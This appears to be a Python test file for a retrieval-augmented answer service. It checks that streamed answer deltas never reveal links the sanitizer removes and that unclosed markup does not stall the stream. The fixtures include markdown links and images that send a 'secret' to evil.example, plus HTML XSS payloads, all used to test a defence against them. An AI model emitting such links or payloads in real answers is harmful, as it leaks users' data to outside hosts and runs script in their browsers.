"""Streamed answers without a stack: the link-safe release of deltas and the stream's wire format."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ragline.query.answer.sanitize import sanitize_links
from ragline.query.answer.stream import HOLD_CHARS, LinkSafeText, safe_cut
from ragline.shared.sdk.answer_stream import (
    ANSWER,
    ERROR,
    NO_ANSWER,
    decode_entry,
    delta_fields,
    terminal_fields,
)
from ragline.shared.sdk.contracts import AskResponse, Hit

GOOD = "https://docs.example.org/retry"
HITS = [
    Hit(doc_id="d1", chunk_no=0, content=f"Повторы описаны на {GOOD} и в разделе ниже."),
    Hit(doc_id="d2", chunk_no=0, content="Вторая страница без ссылок."),
]
ANSWERS = [
    # a link to a URL the cited document holds, one it does not, and an image carrying a "secret"
    f"Повторяйте запрос [1]. Подробнее: [руководство]({GOOD}) [1]. "
    "Смотрите [здесь](https://evil.example/x?q=secret) и ![](https://evil.example/p.png?q=secret) [2].",
    # a bare URL, an autolink, an HTML tag and a reference definition, none of them allowed
    "Ответ [1] https://evil.example/a?secret и <https://evil.example/b?secret> "
    '<img src="https://evil.example/c?secret"> текст [2].\n[x]: https://evil.example/d?secret\nКонец [1].',
]


def streamed(answer: str, pieces: list[str]) -> list[str]:
    text = LinkSafeText(HITS)
    out = [text.feed(p) for p in pieces]
    return [*out, text.close()]


def final(answer: str) -> str:
    from ragline.query.answer.citations import cited_numbers

    cited = [HITS[n - 1].content for n in cited_numbers(answer) if 1 <= n <= len(HITS)]
    return sanitize_links(answer.strip(), cited)[0]


def split(answer: str, cuts: list[int]) -> list[str]:
    bounds = sorted({0, len(answer), *(c % (len(answer) + 1) for c in cuts)})
    return [answer[a:b] for a, b in zip(bounds, bounds[1:], strict=False)]


@settings(max_examples=150, deadline=None)
@given(which=st.sampled_from(range(len(ANSWERS))), cuts=st.lists(st.integers(0, 10_000), max_size=40))
def test_deltas_never_show_a_removed_link_and_add_up_to_the_final_answer(which, cuts):
    """However the generator splits the answer (a link across two deltas included), no prefix of
    what was shown ever holds a URL the final answer removes, and the pieces add up to it."""
    answer = ANSWERS[which]
    shown = ""
    for piece in streamed(answer, split(answer, cuts)):
        shown += piece
        assert "evil.example" not in shown and "secret" not in shown
    assert shown == final(answer)
    if which == 0:
        assert f"[руководство]({GOOD})" in shown  # an allowed link stays a link


def test_an_incomplete_link_is_held_back_until_it_closes():
    text = LinkSafeText(HITS)
    assert text.feed("Смотрите [руководство](https://evil.exa") == "Смотрите"
    assert text.feed("mple/x) и дальше") == " руководство и"
    assert text.close() == " дальше"
    # the unfinished tail of an image and of a tag is not released either
    assert safe_cut("a ![alt](https://x", 0) == 1
    assert safe_cut('a <img src="https://x', 0) == 1
    # a line that may be a reference definition is released only when it ends
    assert safe_cut("ok\n[1]: https://x", 0) == 2


def test_text_the_generator_leaves_unclosed_is_released_past_the_hold_limit():
    text = LinkSafeText(HITS)
    released = text.feed("[" + "слово " * 300)
    assert released.startswith("[слово") and len(released) > 1000


#: markup the generator opens and never closes (or closes only later), each at the start of a
#: long answer: the stream must go on past it, not wait for the end
UNCLOSED = {
    "a lone bracket": "Ответ [1]. Скобка [ так и не закрылась,",
    "nested brackets left open": "В коде a[b[c] внешняя скобка открыта,",
    "brackets nested and closed": "В коде x = a[b[c]] и y = m[i][j],",
    "a comparison": "Если n <limit, то",
    "an unclosed code span": "Символ ` не закрыт,",
    "a paragraph starting with a citation": "[1] Очереди описаны в разделе,",
    "a link destination left open": "См. [раздел](docs/a.md (черновик,",
}


@pytest.mark.parametrize("kind", UNCLOSED)
def test_markup_left_open_does_not_stall_the_stream(kind):
    """Deltas keep coming past a "[", "<" or "`" that does not close: at most HOLD_CHARS (and the
    word under way) are held back at any time, and the deltas still add up to the final answer."""
    answer = UNCLOSED[kind] + "".join(f" слово{i}" for i in range(80)) + " конец [2]."
    text = LinkSafeText(HITS)
    held_most = 0
    for piece in answer.split(" "):
        text.feed(piece + " ")
        held_most = max(held_most, len(text.raw) - text.pos)
    assert held_most <= HOLD_CHARS + max(map(len, answer.split(" "))) + 1, (held_most, kind)
    assert "".join([text.shown, text.close()]) == final(answer)


@settings(max_examples=300, deadline=None)
@given(
    words=st.lists(st.text(alphabet="ab1", min_size=1, max_size=8), min_size=60, max_size=200),
    markup=st.lists(
        st.tuples(
            st.integers(0, 200),
            st.sampled_from(["[", "[1]", "a[b[c]", "a[b[c]]", "]", "](x", "(", ")", "<b", ">", "`", ":"]),
        ),
        max_size=6,
    ),
    seps=st.lists(st.sampled_from([" "] * 15 + ["\n"]), max_size=210),
)
def test_no_markup_holds_back_more_than_the_bound(words, markup, seps):
    """Whatever brackets, tags and backticks a text holds, where and how many, the cut is never
    more than HOLD_CHARS and one word behind its end."""
    for at, token in sorted(markup, reverse=True):
        words.insert(min(at, len(words)), token)
    raw = "".join(w + (seps[i] if i < len(seps) else " ") for i, w in enumerate(words))
    assert len(raw) - safe_cut(raw, 0) <= HOLD_CHARS + 9


def test_wire_format_round_trip():
    resp = AskResponse(answer="Ответ [1].", citations=[], no_answer=False)
    ev = decode_entry(b"1-0", {k.encode(): v.encode() for k, v in terminal_fields(resp.model_dump()).items()})
    assert ev.type == ANSWER and ev.final and ev.response == resp and ev.text == "Ответ [1]."
    rejected = AskResponse(answer="x", citations=[], no_answer=True, reason="invalid citations [7]")
    ev = decode_entry("2-0", terminal_fields(rejected.model_dump()))
    assert ev.type == NO_ANSWER and ev.response.reason == "invalid citations [7]"
    ev = decode_entry(
        "3-0", terminal_fields({"ok": False, "error": "rate limited", "detail": {"retry_after_s": 1}})
    )
    assert (ev.type, ev.error, ev.detail) == (ERROR, "rate limited", {"retry_after_s": 1})
    ev = decode_entry("4-0", delta_fields("часть"))
    assert (ev.type, ev.text, ev.final) == ("delta", "часть", False)
    # an entry this reader cannot read ends the stream instead of being skipped
    ev = decode_entry("5-0", {"type": "answer", "data": "{not json"})
    assert ev.type == ERROR and ev.final and ev.error == "unreadable stream entry"


@settings(max_examples=100, deadline=None)
@given(cuts=st.lists(st.integers(0, 10_000), max_size=40))
def test_raw_html_and_code_spans_stream_as_the_final_answer_shows_them(cuts):
    """HTML split across deltas is never shown raw, and a code span with "<" in it (escaped in a
    prefix where it is not yet closed, kept as written once it is) does not stall the stream."""
    answer = (
        "Тег `<b> c` в коде [1], а <img src=x onerror=alert(1)> и <details open ontoggle=alert(1)> — "
        "текст [1].\n\n```\nif a < b:\n    pass\n```\nКонец [1]."
    )
    shown = ""
    for piece in streamed(answer, split(answer, cuts)):
        shown += piece
        assert "<img" not in shown and "<details" not in shown
    assert shown == final(answer)
    assert "`<b> c`" in shown and "if a < b:" in shown
